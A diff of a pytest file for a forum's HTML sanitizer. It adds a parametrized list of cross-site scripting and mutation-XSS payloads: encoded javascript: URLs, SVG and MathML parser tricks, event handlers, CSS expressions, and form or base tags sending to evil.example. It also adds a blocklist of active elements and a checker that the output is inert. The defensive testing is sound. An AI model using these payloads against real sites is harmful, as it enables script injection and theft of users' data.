@@ -5,6 +5,7 @@ from __future__ import annotations
 import time
 
 import pytest
+from bs4 import BeautifulSoup
 
 from forum.text import (
     MAX_HTML_CHARS,
@@ -39,12 +40,90 @@ def test_sanitize_removes_active_content(untrusted: str, forbidden: str) -> None
     assert forbidden.lower() not in sanitize(untrusted).lower()
 
 
+ATTACKS = [
+    # URLs that run or carry a document, however spelt
+    '<a href="&#106;avascript:steal()">x</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;steal()">x</a>',
+    '<a href="java&#x09;script:steal()">x</a>',
+    '<a href="java\nscript:steal()">x</a>',
+    '<a href=" JaVaScRiPt:steal()">x</a>',
+    '<a href="javascript&colon;steal()">x</a>',
+    '<a href="vbscript:steal()">x</a>',
+    '<a href="DaTa:text/html,<script>steal()</script>">x</a>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=">',
+    # script by way of foreign content, and parser differentials (mXSS)
+    "<svg><script>steal()</script></svg>",
+    '<svg onload="steal()"><a xlink:href="javascript:steal()">x</a></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
+    "<math><mi><style><!--</style><img src=x onerror=steal()>--></style></mi></math>",
+    '<noscript><p title="</noscript><img src=x onerror=steal()>">',
+    "<xmp><img src=x onerror=steal()></xmp>",
+    # styles that run code or fetch from elsewhere
+    '<p style="color: expression(steal())">x</p>',
+    '<p style="background-color: url(https://tracker.example/open.gif)">x</p>',
+    '<p style="color: red; background-color: u\\72l(https://tracker.example/)">x</p>',
+    # event handlers, and comments left open or closed oddly
+    "<img src=x onerror=steal()>",
+    '<a href="https://ok.example/" onmouseover="steal()">ok</a>',
+    "<!--<img src=x onerror=steal()>",
+    "<!-- --!><img src=x onerror=steal()> -->",
+    "<!--><img src=x onerror=steal()>-->",
+    "<![CDATA[<img src=x onerror=steal()>]]>",
+    # elements that change where the page goes or what it loads
+    '<base href="https://evil.example/">x',
+    '<form action="https://evil.example/"><button formaction="https://evil.example/">Go</button></form>',
+    '<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>',
+    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+]
+_ACTIVE_ELEMENTS = {
+    "script",
+    "style",
+    "svg",
+    "math",
+    "iframe",
+    "object",
+    "embed",
+    "base",
+    "meta",
+    "link",
+    "form",
+    "button",
+    "input",
+    "xmp",
+    "noscript",
+}
+
+
+@pytest.mark.parametrize("untrusted", ATTACKS)
+def test_sanitized_html_is_inert_and_stays_so_when_read_again(untrusted: str) -> None:
+    """What a browser would build from the output has nothing active, and sanitizing the
+    output again changes nothing (a parse that differs the second time is how mXSS works)."""
+    shown = sanitize(untrusted)
+    assert_inert_html(shown)
+    assert sanitize(shown) == shown
+
+
+def assert_inert_html(shown: str) -> None:
+    """No element, attribute, URL or style in ``shown`` that runs, loads or sends anything."""
+    for element in BeautifulSoup(shown, "html.parser").find_all(True):
+        assert element.name not in _ACTIVE_ELEMENTS, shown
+        assert not any(name.lower().startswith(("on", "xlink", "formaction", "srcdoc")) for name in element.attrs), (
+            shown
+        )
+        for url in (element.get("href"), element.get("src")):
+            scheme, colon, _ = (url or "").partition(":")
+            assert not colon or "/" in scheme or scheme.lower() in ("http", "https", "mailto", "cid"), shown
+        assert "(" not in str(element.get("style", "")), shown
+
+
 def test_sanitize_keeps_ordinary_formatting() -> None:
     html = (
         "<p><strong>Agenda</strong> for <em>Monday</em>:</p><ul><li>roof</li></ul>"
         '<blockquote>quoted</blockquote><a href="https://example.org/minutes">minutes</a>'
-        '<span style="color: red;">urgent</span>'
-    )
+        '<span style="color:red">urgent</span>'
+    )  # as the sanitizer writes a style: no spaces, no last ;
     assert sanitize(html) == html
 
 
@@ -104,7 +183,7 @@ def test_markdown_to_text_reads_as_text(markdown: str, text: str) -> None:
 @pytest.mark.parametrize(
     "hostile",
     [
-        "<div>" * 20_000 + "deep",  # nested past any message's depth
+        "<div>" * 50_000 + "deep",  # nested past any message's depth: the sanitizer's parser alone would take seconds
         "<b><i><u><span><em>" * 20_000 + "deep",  # inline tags never closed
         "<b>x</p>" * 20_000 + "deep",  # an end tag closes only its own kind
         "<div>x</div>" * 4_000 + "deep",  # more elements than any message's
